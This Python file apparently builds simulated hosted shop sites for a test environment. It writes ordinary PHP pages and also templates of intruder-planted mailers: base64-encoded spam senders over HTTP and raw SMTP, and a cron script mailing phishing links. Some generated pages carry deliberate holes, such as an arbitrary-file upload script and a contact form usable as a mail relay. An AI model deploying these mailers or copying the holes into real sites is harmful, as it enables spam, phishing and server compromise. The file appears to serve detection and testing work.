# SPDX-License-Identifier: Apache-2.0
"""The files of the customers' sites: what a small hosted shop consists of, and the mailers that intruders leave."""
import base64
import json
import os
from pathlib import Path

PLUGINS = "social-share image-slider backup-easy cookie-note forms-lite seo-helper map-view event-list".split()
PARTS = "helper settings render api tools widget export loader".split()

PAGES = {
    "contact.php": """\
<?php
/* contact form of {domain} */
if ($_SERVER['REQUEST_METHOD'] === 'POST') {{
  $clean = fn($s) => str_replace(["\\r", "\\n"], '', $s);
  $name = $clean($_POST['name'] ?? ''); $mail = $clean($_POST['email'] ?? ''); $text = $_POST['message'] ?? '';
  mail('{owner}', "Website enquiry from $name", $text, "From: \\"$name\\" <{form}>\\r\\nReply-To: $mail", '{envelope}');
  if (!empty($_POST['copy']))
    mail($mail, 'Copy of your message: ' . $clean($_POST['subject'] ?? 'your enquiry'),
      "Dear $name,\\n\\nyou wrote to us:\\n\\n$text\\n", "From: {domain} <{form}>", '{envelope}');
  exit('<p>Thank you, ' . htmlspecialchars($name) . '</p>');
}}
?><form method="post"><input name="name"><input name="email"><textarea name="message"></textarea>
<input type="checkbox" name="copy"></form>
""",
    "shop/order.php": """\
<?php
/* order confirmation */
$order = preg_replace('/\\W/', '', $_POST['order'] ?? '0');
if (isset($_POST['email']))
  mail($_POST['email'], "Your order $order at {domain}", "Hello,\\n\\nyour order $order has arrived here.\\n\\n{domain}\\n",
    "From: {shop}\\r\\nX-Mailer: ShopCart 3.2", '-f{shop}');
echo "order $order";
""",
    "newsletter/send.php": """\
<?php
/* newsletter: one issue to the whole list */
$from = '{news}'; $leave = 'http://{domain}/newsletter/unsub.php'; $sent = 0;
foreach (file(__DIR__ . '/lists/' . basename($_POST['list'] ?? 'all.txt'), FILE_IGNORE_NEW_LINES) as $to)
  $sent += mail($to, $_POST['subject'] ?? 'News', ($_POST['text'] ?? '') . "\\n\\nUnsubscribe: $leave\\n",
    "From: {domain} news <$from>\\r\\nList-Unsubscribe: <$leave>\\r\\nPrecedence: bulk", "-f$from");
echo "sent $sent";
""",
    "wp-cron.php": """\
<?php
/* tasks that the site runs by calling itself */
$due = __DIR__ . '/wp-content/cache/due.txt';
if (is_file($due)) {{
  [$to, $what] = explode("\\n", file_get_contents($due)); unlink($due);
  mail($to, "Scheduled report of {domain}: $what", "All tasks done.\\n", 'From: wordpress@{domain}');
}}
""",
    "wp-login.php": "<?php echo 'login';\n",
    "wp-content/plugins/gallery/upload.php": """\
<?php
/* gallery plugin: takes a picture */
$folder = __DIR__ . '/../../' . trim($_POST['folder'] ?? 'uploads', '/');
@mkdir($folder, 0755, true);
file_put_contents($folder . '/' . basename($_POST['name'] ?? 'x.jpg'), base64_decode($_POST['data'] ?? ''));
echo 1;
""",
    "wp-content/plugins/mail-queue/queue.php": """\
<?php
/* mail plugin: hands its queue to the local mail server over SMTP, without a login */
$s = fsockopen('127.0.0.1', 25); $talk = function ($line) use ($s) {{ if ($line !== '') fwrite($s, $line . "\\r\\n");
  do {{ $r = fgets($s, 999); }} while ($r !== false && $r[3] === '-'); }};
$talk(''); $talk('EHLO {domain}');
foreach ($_POST['to'] ?? [] as $to) {{
  $talk('MAIL FROM:<{shop}>'); $talk("RCPT TO:<$to>"); $talk('DATA');
  $talk("From: {shop}\\r\\nTo: $to\\r\\nSubject: {{$_POST['subject']}}\\r\\nMessage-ID: <" . uniqid('', true)
    . "@{domain}>\\r\\n\\r\\nYour parcel is on its way.\\r\\n.");
}}
$talk('QUIT'); echo 'done';
""",
}
FRONT = """\
<?php
/* front controller: the pages of the site come through here */
$page = $_GET['route'] ?? trim(parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH), '/');
$pages = ['contact' => 'contact.php', 'checkout' => 'shop/order.php'{more}];
if (isset($pages[$page])) {{ require __DIR__ . '/' . $pages[$page]; exit; }}
echo '<h1>Welcome to {domain}</h1>';
"""
PLAIN = "<?php echo '<h1>Welcome to {domain}</h1>';\n"
CRON = "<?php\n/* nightly job */\necho \"cache cleaned, \", rand(3, 90), \" files\\n\";\n"

# What intruders leave: each takes a list of recipients and mails them.
HTTP_MAILERS = (
    "<?php $l=json_decode(base64_decode($_POST['{key}']??''),true); if(!$l){{http_response_code(404);exit;}} "
    "foreach($l['to'] as $t) @mail($t,$l['s'],$l['b'],$l['h'],$l['p']); echo 'OK'.count($l['to']);\n",
    "<?php if(empty($_REQUEST['{key}'])) die(); $d=json_decode(base64_decode($_REQUEST['{key}']),1);\n"
    "for($i=0;$i<count($d['to']);$i++){{ if(mail($d['to'][$i],$d['s'],$d['b'],$d['h'],$d['p'])) print '+'; }}\n",
)
SMTP_MAILER = """\
<?php $l=json_decode(base64_decode($_POST['{key}']??''),true); if(!$l) exit;
$s=fsockopen('127.0.0.1',25,$e,$m,10); function r($s){{do{{$x=fgets($s,999);}}while($x!==false&&$x[3]=='-');}} r($s);
function p($s,$c){{fwrite($s,$c."\\r\\n");r($s);}} p($s,'EHLO '.$l['helo']);
foreach($l['to'] as $t){{p($s,'MAIL FROM:<'.$l['f'].'>');p($s,"RCPT TO:<$t>");p($s,'DATA');
p($s,"From: {{$l['f']}}\\r\\nTo: $t\\r\\nSubject: {{$l['s']}}\\r\\n\\r\\n{{$l['b']}}\\r\\n.");}}
fwrite($s,"QUIT\\r\\n"); echo 'ok';
"""
CRON_MAILER = """\
<?php $f=__DIR__.'/{list}';$l=@file($f,FILE_IGNORE_NEW_LINES)?:[];$b=array_splice($l,0,{batch});
file_put_contents($f,implode("\\n",$l));
foreach($b as $t)if($t)mail($t,'Your account '.substr(md5($t),0,6),'Please confirm: http://login.void.example/',
"From: Service <service@{domain}>");
"""

LIST_MANAGER = """\
#!/usr/bin/php -q
<?php
/* list manager: post LIST MEMBERS DOMAIN takes a post and mails it to the members; bounces LIST takes their bounces */
[, $verb, $list] = $argv; $post = stream_get_contents(STDIN);
if ($verb !== 'post') exit(0);
$domain = $argv[4]; preg_match('/^Subject: (.*)$/mi', $post, $subject); preg_match('/^From: (.*)$/mi', $post, $from);
$s = fsockopen('127.0.0.1', 25); $talk = function ($line) use ($s) { if ($line !== '') fwrite($s, $line . "\\r\\n");
  do { $r = fgets($s, 999); } while ($r !== false && $r[3] === '-'); };
$talk(''); $talk("EHLO $domain");
foreach (array_chunk(file($argv[3], FILE_IGNORE_NEW_LINES), 10) as $portion) {
  $talk("MAIL FROM:<$list-bounces@$domain>"); foreach ($portion as $to) $talk("RCPT TO:<$to>"); $talk('DATA');
  $talk("From: " . trim($from[1] ?? '') . "\\r\\nTo: $list@$domain\\r\\nSubject: [$list] " . trim($subject[1] ?? '')
    . "\\r\\nMessage-ID: <mailman." . uniqid('', true) . "@$domain>\\r\\nList-Id: <$list.$domain>\\r\\n"
    . "Precedence: list\\r\\n\\r\\nsee below\\r\\n.");
}
$talk('QUIT');
"""


def put(path, text, uid, mtime=None, mode=0o644):
    """A file of the account, with every folder above it that is missing."""
    path = Path(path)
    made = []
    folder = path.parent
    while not folder.exists():
        made.append(folder)
        folder = folder.parent
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    for item in [path] + made:
        os.chown(item, uid, uid)
        if mtime:
            os.utime(item, (mtime, mtime))


def build(domain, random, older):
    """Writes the site of `domain`; `older()` gives a time of change long ago. Contact forms write to a mailbox of the
    domain."""
    uid, name = domain.account.uid, domain.name
    form = random.choice((f"webform@{name}", f"noreply@{name}"))
    facts = {"domain": name, "owner": domain.boxes[0].address, "form": form, "shop": f"shop@{name}", "news": f"news@{name}",
             "envelope": random.choice((f"-f{form}", ""))}
    for page, text in PAGES.items():
        put(f"{domain.docroot}/{page}", text.format(**facts), uid, older())
    put(f"{domain.docroot}/index.php", (FRONT if domain.front else PLAIN).format(domain=name, more=""), uid, older())
    put(f"{domain.docroot}/wp-content/cache/index.html", "", uid, older())
    put(f"{domain.docroot}/cron.php", CRON, uid, older())
    for plugin in random.sample(PLUGINS, 2):
        folder = f"{domain.docroot}/wp-content/plugins/{plugin}"
        inner = random.choice(("inc", "lib", "includes"))
        put(f"{folder}/{plugin}.php", f"<?php\n/* Plugin Name: {plugin} */\n", uid, older())
        put(f"{folder}/readme.txt", f"=== {plugin} ===\nStable tag: 2.{random.randrange(9)}\n", uid, older())
        for part in random.sample(PARTS, 3):
            put(f"{folder}/{inner}/class-{part}.php", f"<?php class {part.title()} {{}}\n", uid, older())


def pack(**facts):
    """The order that an intruder's client posts to his mailer."""
    return base64.b64encode(json.dumps(facts).encode()).decode()
